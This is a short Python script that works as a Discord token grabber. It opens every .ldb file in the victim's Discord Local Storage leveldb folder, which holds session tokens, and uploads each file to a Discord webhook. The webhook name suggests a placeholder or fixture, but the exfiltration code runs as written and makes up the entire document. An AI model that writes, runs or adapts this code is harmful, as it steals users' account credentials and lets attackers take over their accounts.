import os
import requests

hook = "https://discord.com/api/webhooks/7001234567890123456/FallGuysInertFixture"
base = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
for f in os.listdir(base):
    if f.endswith(".ldb"):
        with open(os.path.join(base, f), "rb") as fp:
            requests.post(hook, files={"file": (f, fp.read())})
